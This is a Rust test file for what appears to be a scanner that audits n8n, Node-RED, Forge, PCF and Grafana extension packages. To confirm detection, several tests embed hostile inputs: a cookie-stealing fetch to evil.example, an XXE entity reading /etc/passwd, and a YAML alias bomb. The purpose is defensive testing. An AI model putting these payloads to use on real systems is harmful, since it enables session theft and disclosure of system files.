//! Adapter tests on fixtures shaped like real packages of each platform
//! (`tests/fixtures/<platform>/<package>/…`).

use portcullis_adapters::{GenericManifest, detect};
use portcullis_core::rule::Signal;
use portcullis_core::{
    BinaryKind, Capability, Channel, Extension, FileKind, Finding, HostPattern, IngressKind,
    Origin, Package, Platform, Severity, SourceFile,
};
use std::path::Path;

fn kind_of(path: &str) -> FileKind {
    let ext = path.rsplit('.').next().unwrap_or("");
    match ext {
        "js" | "mjs" | "cjs" | "jsx" => FileKind::JavaScript,
        "ts" | "tsx" => FileKind::TypeScript,
        "json" => FileKind::Json,
        "yml" | "yaml" => FileKind::Yaml,
        "xml" => FileKind::Xml,
        "html" => FileKind::Html,
        "md" => FileKind::Markdown,
        "txt" => FileKind::Text,
        _ if path.contains("gpx_") => FileKind::Binary(BinaryKind::Elf),
        _ => FileKind::Text,
    }
}

fn load(rel: &str) -> Package {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(rel);
    let mut files = Vec::new();
    let mut stack = vec![root.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("fixture dir") {
            let p = entry.expect("entry").path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p
                    .strip_prefix(&root)
                    .expect("under root")
                    .to_string_lossy()
                    .replace('\\', "/");
                let bytes = std::fs::read(&p).expect("read fixture");
                files.push(SourceFile::new(rel.clone(), kind_of(&rel), bytes));
            }
        }
    }
    let mut pkg = Package {
        source: rel.to_string(),
        origin: Origin::Directory,
        sha256: String::new(),
        files,
    };
    pkg.sort();
    pkg
}

fn egress(channel: Channel, host: HostPattern) -> Capability {
    Capability::NetworkEgress { channel, host }
}

fn exact(h: &str) -> HostPattern {
    HostPattern::Exact(h.to_string())
}

fn rule_hits<'a>(findings: &'a [Finding], rule: &str) -> Vec<&'a Finding> {
    findings.iter().filter(|f| f.rule_id == rule).collect()
}

fn find_cap(ext: &Extension, pred: impl Fn(&Capability) -> bool) -> Option<&Capability> {
    ext.declared.iter().map(|i| &i.capability).find(|c| pred(c))
}

#[test]
fn n8n_package_maps_nodes_credentials_and_rules() {
    let out = detect(&load("n8n/acme"), None);
    let ext = out.extension.as_ref().expect("extension");
    assert_eq!(ext.platform, Platform::N8n);
    assert_eq!(ext.name, "n8n-nodes-acme");
    assert_eq!(ext.version.as_deref(), Some("0.3.1"));
    // Entry points map the dist paths back to the TypeScript sources.
    assert!(
        ext.entry_points
            .contains(&"nodes/Acme/Acme.node.ts".to_string())
    );
    assert!(
        ext.entry_points
            .contains(&"credentials/AcmeApi.credentials.ts".to_string())
    );

    let d = &ext.declared;
    assert!(d.contains(&egress(Channel::BackendHttp, exact("api.acme.io"))));
    assert!(d.contains(&egress(Channel::BackendHttp, exact("uploads.acme.io"))));
    assert!(d.contains(&egress(Channel::BackendHttp, exact("auth.acme.io"))));
    assert!(d.contains(&egress(
        Channel::BackendHttp,
        HostPattern::UserConfigured("credentials.domain".into())
    )));
    assert!(d.contains(&Capability::DataScope {
        scope: "oauth2:contacts.write".into()
    }));
    assert!(d.contains(&Capability::Ingress {
        kind: IngressKind::AiTool,
        name: Some("acme".into()),
        authenticated: None
    }));
    assert!(d.contains(&Capability::Ingress {
        kind: IngressKind::Trigger,
        name: Some("acmeTrigger".into()),
        authenticated: None
    }));
    assert!(find_cap(ext, |c| matches!(c, Capability::Ingress { kind: IngressKind::Webhook, name: Some(n), .. } if n.contains("POST webhook"))).is_some());

    let Some(Capability::Credential {
        secret_fields,
        bound_hosts,
        injection,
        ..
    }) = find_cap(
        ext,
        |c| matches!(c, Capability::Credential { name, .. } if name == "acmeApi"),
    )
    else {
        panic!("acmeApi credential not declared: {:#?}", ext.declared);
    };
    assert_eq!(secret_fields, &vec!["apiKey".to_string()]);
    assert!(bound_hosts.contains(&exact("api.acme.io")));
    assert_eq!(injection.as_deref(), Some("header:Authorization"));
    let Some(Capability::Credential {
        injection,
        bound_hosts,
        ..
    }) = find_cap(
        ext,
        |c| matches!(c, Capability::Credential { name, .. } if name == "acmeOAuth2Api"),
    )
    else {
        panic!("oauth credential missing");
    };
    assert_eq!(injection.as_deref(), Some("oauth2"));
    assert_eq!(bound_hosts, &vec![exact("auth.acme.io")]);

    // Evidence points at the source line.
    let item = ext
        .declared
        .iter()
        .find(|i| i.capability == egress(Channel::BackendHttp, exact("uploads.acme.io")))
        .unwrap();
    assert_eq!(item.evidence[0].path, "nodes/Acme/Acme.node.ts");
    assert_eq!(item.evidence[0].line, Some(47));

    let f = &out.findings;
    let deps = rule_hits(f, "n8n/no-runtime-dependencies");
    assert_eq!(deps.len(), 1);
    assert!(deps[0].message.contains("axios"));
    assert_eq!(deps[0].location.start_line(), Some(31));
    let reuse = rule_hits(f, "n8n/credential-reuse");
    assert_eq!(reuse.len(), 1, "{reuse:#?}");
    assert!(reuse[0].message.contains("slackApi"));
    let imports = rule_hits(f, "n8n/restricted-import");
    assert_eq!(imports.len(), 1, "{imports:#?}");
    assert!(imports[0].message.contains("child_process"));
    assert_eq!(imports[0].severity, Severity::High);
    let globals = rule_hits(f, "n8n/restricted-global");
    assert_eq!(globals.len(), 1);
    assert!(globals[0].message.contains("process"));
    let pw = rule_hits(f, "n8n/credential-password-field");
    assert_eq!(pw.len(), 1);
    assert!(pw[0].message.contains("webhookSigningSecret"));
    // An unmasked field is hygiene: it holds no secret and never decides a reject.
    assert_eq!(pw[0].severity, Severity::Medium);
    assert_eq!(pw[0].signals, [Signal::Hygiene]);
    assert_ne!(pw[0].category, portcullis_core::Category::Secret);
    let params = rule_hits(f, "n8n/secret-node-parameter");
    assert_eq!(params.len(), 1, "{params:#?}");
    assert!(params[0].message.contains("webhookSecret"));
    let missing = rule_hits(f, "manifest/missing-entry-point");
    assert_eq!(missing.len(), 1);
    assert!(missing[0].message.contains("AcmeLegacy"));
    assert!(rule_hits(f, "n8n/missing-community-keyword").is_empty());
}

#[test]
fn clean_compiled_n8n_package_has_no_findings() {
    let out = detect(&load("n8n/clean"), None);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    let ext = out.extension.unwrap();
    assert_eq!(ext.platform, Platform::N8n);
    assert!(
        ext.declared
            .contains(&egress(Channel::BackendHttp, exact("echo.example.com")))
    );
    let Some(Capability::Credential {
        injection,
        secret_fields,
        ..
    }) = find_cap(
        &ext,
        |c| matches!(c, Capability::Credential { name, .. } if name == "echoApi"),
    )
    else {
        panic!("echoApi missing");
    };
    assert_eq!(injection.as_deref(), Some("query:token"));
    assert_eq!(secret_fields, &vec!["token".to_string()]);
    assert_eq!(
        ext.entry_points,
        vec![
            "dist/credentials/EchoApi.credentials.js",
            "dist/nodes/Echo/Echo.node.js"
        ]
    );
}

#[test]
fn node_red_credentials_defaults_and_routes() {
    let out = detect(&load("node-red/acme-sensor"), None);
    let ext = out.extension.as_ref().unwrap();
    assert_eq!(ext.platform, Platform::NodeRed);
    assert_eq!(
        ext.entry_points,
        vec!["nodes/acme-config.js", "nodes/acme-sensor.js"]
    );
    let f = &out.findings;

    let mismatch = rule_hits(f, "node-red/credentials-mismatch");
    assert_eq!(mismatch.len(), 1, "{mismatch:#?}");
    assert!(mismatch[0].message.contains("apiKey"));
    assert_eq!(mismatch[0].location.path, "nodes/acme-sensor.html");
    assert_eq!(mismatch[0].location.start_line(), Some(14));

    let defaults = rule_hits(f, "node-red/secret-in-defaults");
    assert_eq!(defaults.len(), 1, "{defaults:#?}");
    assert!(defaults[0].message.contains("apiToken"));
    assert_eq!(defaults[0].location.start_line(), Some(8));
    // An empty default is where a user's secret would go: hygiene, never a secret.
    assert_eq!(defaults[0].severity, Severity::Medium);
    assert!(defaults[0].has_signal(Signal::Hygiene));
    assert!(!defaults[0].has_signal(Signal::HardCodedSecret));
    assert_ne!(defaults[0].category, portcullis_core::Category::Secret);

    let routes = rule_hits(f, "node-red/route-without-permission");
    assert_eq!(routes.len(), 1, "{routes:#?}");
    assert!(routes[0].message.contains("/acme-sensor/devices"));
    assert_eq!(routes[0].severity, Severity::High);

    assert!(ext.declared.contains(&egress(
        Channel::BackendHttp,
        HostPattern::UserConfigured("acme-sensor.host".into())
    )));
    // Middleware in a variable: authentication unknown, not reported.
    assert!(ext.declared.contains(&Capability::Ingress {
        kind: IngressKind::HttpRoute,
        name: Some("admin GET /acme-sensor/:id/status".into()),
        authenticated: None,
    }));
    assert!(ext.declared.contains(&Capability::Ingress {
        kind: IngressKind::HttpRoute,
        name: Some("admin POST /acme-sensor/:id/calibrate".into()),
        authenticated: Some(true),
    }));
    let Some(Capability::Credential { secret_fields, .. }) = find_cap(
        ext,
        |c| matches!(c, Capability::Credential { name, .. } if name == "acme-sensor"),
    ) else {
        panic!("credential missing");
    };
    assert_eq!(secret_fields, &vec!["password".to_string()]);
}

#[test]
fn forge_manifest_scopes_egress_modules_and_csp() {
    let out = detect(&load("forge/issue-sync"), None);
    let ext = out.extension.as_ref().unwrap();
    assert_eq!(ext.platform, Platform::Forge);
    assert_eq!(ext.name, "issue-sync");
    assert_eq!(ext.entry_points, vec!["src/index.js", "src/webhooks.js"]);
    let d = &ext.declared;
    for s in ["read:jira-work", "write:jira-work", "storage:app"] {
        assert!(
            d.contains(&Capability::DataScope { scope: s.into() }),
            "{s}"
        );
    }
    assert!(d.contains(&egress(Channel::BackendHttp, exact("api.flagsmith.com"))));
    assert!(d.contains(&egress(
        Channel::BackendHttp,
        HostPattern::Wildcard("*.acme.io".into())
    )));
    assert!(d.contains(&egress(Channel::BackendHttp, exact("reports.acme.io"))));
    assert!(d.contains(&egress(Channel::ClientFetch, HostPattern::Any)));
    assert!(d.contains(&egress(Channel::Images, exact("avatars.acme.io"))));
    assert!(d.contains(&Capability::Ingress {
        kind: IngressKind::Webhook,
        name: Some("webtrigger sync-hook".into()),
        authenticated: Some(false),
    }));
    assert!(d.contains(&Capability::UiSurface {
        kind: "jira:issuePanel".into()
    }));
    let scope_ev = &d
        .iter()
        .find(|i| {
            i.capability
                == Capability::DataScope {
                    scope: "storage:app".into(),
                }
        })
        .unwrap()
        .evidence[0];
    assert_eq!(
        (scope_ev.path.as_str(), scope_ev.line),
        ("manifest.yml", Some(28))
    );

    let csp = rule_hits(&out.findings, "forge/unsafe-csp");
    assert_eq!(csp.len(), 2);
    assert!(
        csp.iter()
            .any(|f| f.message.contains("unsafe-eval") && f.severity == Severity::High)
    );
    assert!(
        csp.iter()
            .any(|f| f.message.contains("unsafe-inline") && f.severity == Severity::Medium)
    );
}

#[test]
fn forge_broken_yaml_is_a_located_finding() {
    let mut pkg = load("forge/issue-sync");
    let f = pkg
        .files
        .iter_mut()
        .find(|f| f.path == "manifest.yml")
        .unwrap();
    f.bytes = b"modules:\n  function:\n    - key: a\n   handler: [\n"
        .to_vec()
        .into();
    let out = detect(&pkg, None);
    let bad = rule_hits(&out.findings, "manifest/invalid-yaml");
    assert_eq!(bad.len(), 1);
    assert_eq!(bad[0].location.path, "manifest.yml");
    assert!(bad[0].location.start_line().is_some());
    assert_eq!(out.extension.unwrap().platform, Platform::Forge);
}

#[test]
fn pcf_control_domains_features_and_secret_property() {
    let out = detect(&load("pcf/map-control"), None);
    let ext = out.extension.as_ref().unwrap();
    assert_eq!(ext.platform, Platform::PowerAppsPcf);
    assert_eq!(ext.name, "SampleNamespace.MapControl");
    assert_eq!(ext.version.as_deref(), Some("1.1.0"));
    assert_eq!(ext.entry_points, vec!["MapControl/index.ts"]);
    assert!(
        ext.declared
            .contains(&egress(Channel::ClientFetch, exact("www.google.com")))
    );
    assert!(ext.declared.contains(&Capability::DataScope {
        scope: "WebAPI".into()
    }));
    assert!(ext.declared.contains(&Capability::DataScope {
        scope: "Device.getCurrentPosition".into()
    }));
    let secret = rule_hits(&out.findings, "pcf/secret-input-property");
    assert_eq!(secret.len(), 1);
    assert!(secret[0].message.contains("mapsApiKey"));
    assert_eq!(secret[0].location.start_line(), Some(8));
}

#[test]
fn pcf_invalid_xml_and_disabled_usage() {
    let mut pkg = load("pcf/map-control");
    let f = pkg
        .files
        .iter_mut()
        .find(|f| f.name() == "ControlManifest.Input.xml")
        .unwrap();
    f.bytes = b"<?xml version=\"1.0\"?>\n<manifest>\n  <control namespace=\"A\" constructor=\"B\">\n</manifest>\n".to_vec().into();
    let out = detect(&pkg, None);
    let bad = rule_hits(&out.findings, "manifest/invalid-xml");
    assert_eq!(bad.len(), 1);
    assert_eq!(bad[0].location.start_line(), Some(4));

    let f = pkg
        .files
        .iter_mut()
        .find(|f| f.name() == "ControlManifest.Input.xml")
        .unwrap();
    f.bytes = b"<manifest><control namespace=\"A\" constructor=\"B\" version=\"1.0.0\"><external-service-usage enabled=\"false\"><domain>api.example.com</domain></external-service-usage></control></manifest>".to_vec().into();
    let out = detect(&pkg, None);
    assert_eq!(
        rule_hits(&out.findings, "pcf/external-service-disabled").len(),
        1
    );
    // A DOCTYPE (XXE vector) is refused, never expanded.
    let f = pkg
        .files
        .iter_mut()
        .find(|f| f.name() == "ControlManifest.Input.xml")
        .unwrap();
    f.bytes = b"<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><manifest><control namespace=\"&x;\" constructor=\"B\"/></manifest>".to_vec().into();
    let out = detect(&pkg, None);
    let ext_name = out
        .extension
        .as_ref()
        .map(|e| e.name.clone())
        .unwrap_or_default();
    assert!(!ext_name.contains("root:"), "{ext_name}");
}

#[test]
fn grafana_routes_iam_backend_and_signature() {
    let out = detect(&load("grafana/acme-datasource"), None);
    let ext = out.extension.as_ref().unwrap();
    assert_eq!(ext.platform, Platform::Grafana);
    assert_eq!(ext.name, "acme-metrics-datasource");
    assert_eq!(ext.version.as_deref(), Some("3.2.0"));
    let d = &ext.declared;
    assert!(d.contains(&egress(Channel::BackendHttp, exact("api.acme-metrics.io"))));
    assert!(d.contains(&egress(
        Channel::BackendHttp,
        HostPattern::UserConfigured("jsonData.url".into())
    )));
    assert!(d.contains(&Capability::DataScope {
        scope: "dashboards:create on folders:uid:*".into()
    }));
    assert!(d.contains(&Capability::NativeModule {
        name: "gpx_acme_metrics".into()
    }));
    assert!(
        ext.entry_points
            .contains(&"dist/gpx_acme_metrics_linux_amd64".to_string())
    );
    assert!(ext.entry_points.contains(&"dist/module.js".to_string()));
    let Some(Capability::Credential {
        secret_fields,
        bound_hosts,
        injection,
        ..
    }) = find_cap(
        ext,
        |c| matches!(c, Capability::Credential { name, .. } if name == "route:api"),
    )
    else {
        panic!("route credential missing");
    };
    assert_eq!(secret_fields, &vec!["apiKey".to_string()]);
    assert_eq!(bound_hosts, &vec![exact("api.acme-metrics.io")]);
    assert_eq!(injection.as_deref(), Some("header:Authorization"));

    let f = &out.findings;
    let role = rule_hits(f, "grafana/route-without-role");
    assert_eq!(role.len(), 1);
    assert!(role[0].message.contains("`admin`"));
    assert_eq!(rule_hits(f, "grafana/secret-in-json-data").len(), 1);
    let hashes = rule_hits(f, "grafana/manifest-hash-mismatch");
    assert_eq!(hashes.len(), 1, "{hashes:#?}");
    assert!(hashes[0].message.contains("README.md"));
    let unsigned = rule_hits(f, "grafana/unsigned-file");
    assert_eq!(unsigned.len(), 1, "{unsigned:#?}");
    assert_eq!(unsigned[0].location.path, "dist/extra.js");
}

#[test]
fn grafana_tampered_file_is_detected() {
    let mut pkg = load("grafana/acme-datasource");
    let f = pkg
        .files
        .iter_mut()
        .find(|f| f.path == "dist/module.js")
        .unwrap();
    f.bytes = b"fetch('https://evil.example/'+document.cookie)"
        .to_vec()
        .into();
    let out = detect(&pkg, None);
    let hashes = rule_hits(&out.findings, "grafana/manifest-hash-mismatch");
    assert!(
        hashes
            .iter()
            .any(|h| h.message.contains("module.js") && h.severity == Severity::High)
    );
}

#[test]
fn generic_manifest_augments_or_defines_the_extension() {
    let g = GenericManifest::from_config_toml(
        "portcullis.toml",
        "[extension]\nplatform = \"zapier\"\nname = \"acme-zap\"\negress = [\"api.acme.io\"]\nprocesses = [\"git\"]\n",
    )
    .unwrap()
    .unwrap();
    let mut pkg = load("n8n/clean");
    pkg.files.retain(|f| f.path != "package.json");
    let out = detect(&pkg, Some(&g));
    let ext = out.extension.unwrap();
    assert_eq!(ext.platform, Platform::Generic);
    assert_eq!(ext.name, "acme-zap");
    assert!(ext.declared.contains(&Capability::ChildProcess {
        command: Some("git".into())
    }));

    // With a platform manifest, the generic declarations are added to it.
    let out = detect(&load("n8n/clean"), Some(&g));
    let ext = out.extension.unwrap();
    assert_eq!(ext.platform, Platform::N8n);
    assert!(
        ext.declared
            .contains(&egress(Channel::BackendHttp, exact("api.acme.io")))
    );
    assert!(
        ext.declared
            .contains(&egress(Channel::BackendHttp, exact("echo.example.com")))
    );
}

#[test]
fn hostile_inputs_never_panic() {
    let cases: &[(&str, &[u8])] = &[
        (
            "package.json",
            b"{\"n8n\": {\"nodes\": \"x\", \"credentials\": [1, null, {}]}, \"dependencies\": []}",
        ),
        ("package.json", b"{\"node-red\": {\"nodes\": [\"a.js\"]}}"),
        ("package.json", b"[1,2,3]"),
        ("package.json", &[0xff, 0xfe, 0x00]),
        (
            "manifest.yml",
            b"app: &a [*a, *a]\nmodules: 3\npermissions: {external: {fetch: {backend: 7}}}\n",
        ),
        (
            "plugin.json",
            b"{\"id\": 1, \"type\": [], \"routes\": {\"a\": 1}, \"iam\": 5}",
        ),
        ("MANIFEST.txt", b"-----BEGIN PGP SIGNATURE-----\n{"),
        (
            "ControlManifest.Input.xml",
            b"<manifest><control/></manifest>",
        ),
    ];
    for (name, bytes) in cases {
        let mut pkg = Package {
            source: "h".into(),
            origin: Origin::Directory,
            sha256: String::new(),
            files: vec![SourceFile::new(*name, kind_of(name), bytes.to_vec())],
        };
        pkg.sort();
        let _ = detect(&pkg, None);
    }
    // YAML alias expansion ("billion laughs") is refused by the parser, not expanded.
    let mut bomb =
        String::from("app: {id: x}\nmodules:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..12 {
        let p = i - 1;
        bomb.push_str(&format!(
            "  a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    let mut pkg = Package {
        source: "h".into(),
        origin: Origin::Directory,
        sha256: String::new(),
        files: vec![SourceFile::new(
            "manifest.yml",
            FileKind::Yaml,
            bomb.into_bytes(),
        )],
    };
    pkg.sort();
    let out = detect(&pkg, None);
    assert_eq!(
        rule_hits(&out.findings, "manifest/invalid-yaml").len(),
        1,
        "{:#?}",
        out.findings
    );

    // A node file nested far beyond any real description object.
    let deep = format!(
        "class A {{ description = {}1{} }}",
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let mut pkg = Package {
        source: "h".into(),
        origin: Origin::Directory,
        sha256: String::new(),
        files: vec![
            SourceFile::new(
                "package.json",
                FileKind::Json,
                b"{\"name\":\"n8n-nodes-deep\",\"n8n\":{\"nodes\":[\"A.node.js\"]}}".to_vec(),
            ),
            SourceFile::new("A.node.js", FileKind::JavaScript, deep.into_bytes()),
        ],
    };
    pkg.sort();
    let out = detect(&pkg, None);
    assert!(!out.notices.is_empty());
}

/// Deterministic mutation fuzzing of every fixture's manifest and code files: truncations and
/// byte changes must never panic (a cheap stand-in for cargo-fuzz in the unit tests).
#[test]
fn mutated_fixtures_never_panic() {
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for fixture in [
        "n8n/acme",
        "n8n/clean",
        "node-red/acme-sensor",
        "forge/issue-sync",
        "pcf/map-control",
        "grafana/acme-datasource",
    ] {
        let base = load(fixture);
        let targets: Vec<usize> = base
            .files
            .iter()
            .enumerate()
            .filter(|(_, f)| f.kind.is_text() && !f.is_empty())
            .map(|(i, _)| i)
            .collect();
        for round in 0..150u64 {
            let mut pkg = base.clone();
            let Some(&i) = targets.get((next() % targets.len() as u64) as usize) else {
                continue;
            };
            let mut bytes = pkg.files[i].bytes.to_vec();
            let at = (next() % bytes.len() as u64) as usize;
            match round % 4 {
                0 => bytes.truncate(at),
                1 => {
                    let specials = b"{}[]\"'`<>:,\n\\$";
                    bytes[at] = specials[(next() % specials.len() as u64) as usize];
                }
                2 => bytes.insert(at, 0xC3), // a lone UTF-8 lead byte
                _ => {
                    let end = (at + (next() % 64) as usize).min(bytes.len());
                    bytes.drain(at..end);
                }
            }
            pkg.files[i].bytes = bytes.into();
            let _ = detect(&pkg, None);
        }
    }
}

#[test]
fn forge_external_lists_map_to_channels_and_object_scopes_are_read() {
    let manifest = "modules:\n  function:\n    - key: main\n      handler: index.run\npermissions:\n  scopes:\n    - read:jira-work\n    - key: write:jira-work\n      allowImpersonation: true\n  external:\n    fetch:\n      backend:\n        - api.acme.io\n      client:\n        - client.acme.io\n    images:\n      - img.acme.io\n    media:\n      - media.acme.io\n    scripts:\n      - js.acme.io\n    styles:\n      - css.acme.io\n    fonts:\n      - fonts.acme.io\n    frames:\n      - embed.acme.io\n    navigation:\n      - www.acme.io\napp:\n  id: ari:cloud:ecosystem::app/x\n";
    let mut pkg = Package {
        source: "t".into(),
        origin: Origin::Directory,
        sha256: String::new(),
        files: vec![
            SourceFile::new("manifest.yml", FileKind::Yaml, manifest.as_bytes().to_vec()),
            SourceFile::new(
                "src/index.js",
                FileKind::JavaScript,
                b"export const run = () => 1;\n".to_vec(),
            ),
        ],
    };
    pkg.sort();
    let ext = detect(&pkg, None).extension.expect("forge");
    let d = &ext.declared;
    for (channel, host) in [
        (Channel::BackendHttp, "api.acme.io"),
        (Channel::ClientFetch, "client.acme.io"),
        (Channel::Images, "img.acme.io"),
        (Channel::Images, "media.acme.io"),
        (Channel::Scripts, "js.acme.io"),
        (Channel::Scripts, "css.acme.io"),
        (Channel::Images, "fonts.acme.io"),
        (Channel::ClientFetch, "embed.acme.io"),
        (Channel::ClientFetch, "www.acme.io"),
    ] {
        assert!(d.contains(&egress(channel, exact(host))), "{host}: {d:#?}");
    }
    let styles = d
        .iter()
        .find(|i| i.capability == egress(Channel::Scripts, exact("css.acme.io")))
        .expect("styles host");
    assert_eq!(styles.evidence[0].source, "permissions.external.styles");
    for s in ["read:jira-work", "write:jira-work"] {
        assert!(
            d.contains(&Capability::DataScope { scope: s.into() }),
            "{s}"
        );
    }
}

#[test]
fn node_red_default_with_a_real_value_ships_a_secret() {
    let out = detect(&load("node-red/weather-push"), None);
    let defaults = rule_hits(&out.findings, "node-red/secret-in-defaults");
    // `passwordHint: "your password here"` is a placeholder; `apiKey` is a real value.
    assert_eq!(defaults.len(), 2, "{defaults:#?}");
    let key = defaults
        .iter()
        .find(|f| f.message.contains("`apiKey`"))
        .unwrap();
    assert_eq!(key.severity, Severity::High);
    assert!(key.has_signal(Signal::HardCodedSecret));
    assert!(!key.has_signal(Signal::Hygiene));
    assert!(key.message.contains("non-empty default"));
    let hint = defaults
        .iter()
        .find(|f| f.message.contains("passwordHint"))
        .unwrap();
    assert!(hint.has_signal(Signal::Hygiene));
    assert!(!hint.has_signal(Signal::HardCodedSecret));
}
